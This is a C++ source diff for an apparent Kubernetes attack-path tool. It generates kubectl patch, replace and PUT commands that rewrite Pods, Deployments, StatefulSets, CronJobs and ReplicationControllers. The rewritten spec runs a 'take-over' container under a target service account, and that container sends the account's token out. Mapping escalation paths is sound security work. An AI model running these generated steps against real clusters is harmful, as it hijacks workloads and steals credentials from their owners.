@@ -1,4 +1,6 @@
+#include "graph/base/shell_quote.h"
 #include "graph/escalation/requests/enter_pods.h"
+#include "graph/escalation/requests/read_object.h"
 #include "graph/escalation/requests/text.h"
 #include "graph/escalation/techniques/all.h"
 
@@ -70,6 +72,10 @@ std::string first_name(const StepView& view, std::size_t kind) {
   return requests::pod_name(view);
 }
 
+std::string api_version(const WorkloadKind& kind) {
+  return kind.api_group.empty() ? kind.version : kind.api_group + '/' + kind.version;
+}
+
 // A pod keeps all but its images; IMAGE is one that sends its token on its own. A template takes
 // another container and account.
 std::string changed_spec(const WorkloadKind& kind, std::size_t index, const std::string& account) {
@@ -80,27 +86,84 @@ std::string changed_spec(const WorkloadKind& kind, std::size_t index, const std:
   return kind.kind == "CronJob" ? fmt::format(R"({{"jobTemplate":{{"spec":{}}}}})", pod) : pod;
 }
 
+// For a PUT of what cannot be read. All that may not change has to be as it is: the selector and
+// the labels that it wants. A pod is refused by an answer that shows its spec.
+std::string whole_spec(const WorkloadKind& kind, std::size_t index, const std::string& account) {
+  if (index == kPods) return "SPEC";
+  const auto pod = fmt::format(
+      R"("serviceAccountName":{},"containers":[{{"name":"take-over","image":"busybox","command":{}}}])",
+      requests::json_text(account), requests::send_token_command());
+  if (kind.kind == "CronJob") {
+    return fmt::format(
+        R"({{"schedule":"* * * * *","jobTemplate":{{"spec":{{"template":{{"spec":{{"restartPolicy":"Never",{}}}}}}}}}}})",
+        pod);
+  }
+  if (kind.kind == "ReplicationController") {
+    return fmt::format(R"({{"template":{{"metadata":{{"labels":{{"a":"b"}}}},"spec":{{{}}}}}}})",
+                       pod);
+  }
+  const auto* service = kind.kind == "StatefulSet" ? R"("serviceName":"SERVICE",)" : "";
+  return fmt::format(
+      R"({{{}"selector":{{"matchLabels":{{LABELS}}}},"template":{{"metadata":{{"labels":{{LABELS}}}},"spec":{{{}}}}}}})",
+      service, pod);
+}
+
+// What stands in the line for what only the object itself says.
+std::string placeholders(const WorkloadKind& kind, std::size_t index) {
+  if (index == kPods) {
+    return "; SPEC is that of the pod, with another image: the refusal of any other shows what "
+           "differs";
+  }
+  if (kind.kind == "CronJob" || kind.kind == "ReplicationController") return {};
+  const auto* more = kind.kind == "StatefulSet"
+                         ? ", SERVICE its serviceName; its volumeClaimTemplates have to stay too"
+                         : "";
+  return fmt::format(R"(; LABELS are those that its selector wants, as "app":"web"{})", more);
+}
+
+// A PUT replaces the whole object.
+StepText put(const StepView& view, std::size_t index, const std::string& name) {
+  const auto& kind = view.world.table().workloads()[index];
+  const CreatePermissions making{RightsTable::workload_right(index)};
+  const auto read = requests::print_object(
+      view, {kind.api_group, kind.version, kind.resource, view.account_ns, name});
+  if (!read.empty()) {
+    const auto patch = fmt::format(R"({{"spec":{}}})", changed_spec(kind, index, view.account));
+    return {fmt::format("{} | kubectl patch --local -f - -p {} -o json | {} replace "
+                        "--validate=false -f -",
+                        read, shell_quote(patch), view.kubectl),
+            {}};
+  }
+  const auto json = requests::object_json(api_version(kind), kind.kind, view.account_ns, name,
+                                          R"(,"spec":)" + whole_spec(kind, index, view.account));
+  return {requests::overwrite_object(view, making.patch(), json), placeholders(kind, index)};
+}
+
+StepText changed(const StepView& view, std::size_t index, const std::string& name) {
+  const auto& kind = view.world.table().workloads()[index];
+  const CreatePermissions making{RightsTable::workload_right(index)};
+  if (!requests::uses(view.edge, making.patch())) return put(view, index, name);
+  const auto json = requests::object_json(api_version(kind), kind.kind, view.account_ns, name,
+                                          R"(,"spec":)" + changed_spec(kind, index, view.account));
+  return {requests::overwrite_object(view, making.patch(), json), {}};
+}
+
 StepText text(const StepView& view) {
   for (std::size_t i = 0; i < view.world.table().workloads().size(); ++i) {
     const CreatePermissions making{RightsTable::workload_right(i)};
     if (!requests::uses(view.edge, making.patch()) && !requests::uses(view.edge, making.update()))
       continue;
+    auto step = changed(view, i, first_name(view, i));
+    step.request += '\n' + requests::receive_token(view);
     const auto& kind = view.world.table().workloads()[i];
-    const auto version =
-        kind.api_group.empty() ? kind.version : kind.api_group + '/' + kind.version;
-    const auto json =
-        requests::object_json(version, kind.kind, view.account_ns, first_name(view, i),
-                              R"(,"spec":)" + changed_spec(kind, i, view.account));
-    if (i == kPods) {
-      return {requests::overwrite_object(view, making.patch(), json) + '\n' +
-                  requests::receive_token(view),
-              "the image of a running pod can be changed, and the new container has its token"};
-    }
-    return {requests::overwrite_object(view, making.patch(), json) + '\n' +
-                requests::receive_token(view),
-            fmt::format("changing a {} starts pods anew, with any image and any account of the "
-                        "namespace",
-                        kind.kind)};
+    step.because.insert(
+        0, i == kPods
+               ? std::string("the image of a running pod can be changed, and the new container "
+                             "has its token")
+               : fmt::format("changing a {} starts pods anew, with any image and any account of "
+                             "the namespace",
+                             kind.kind));
+    return step;
   }
   return {};
 }
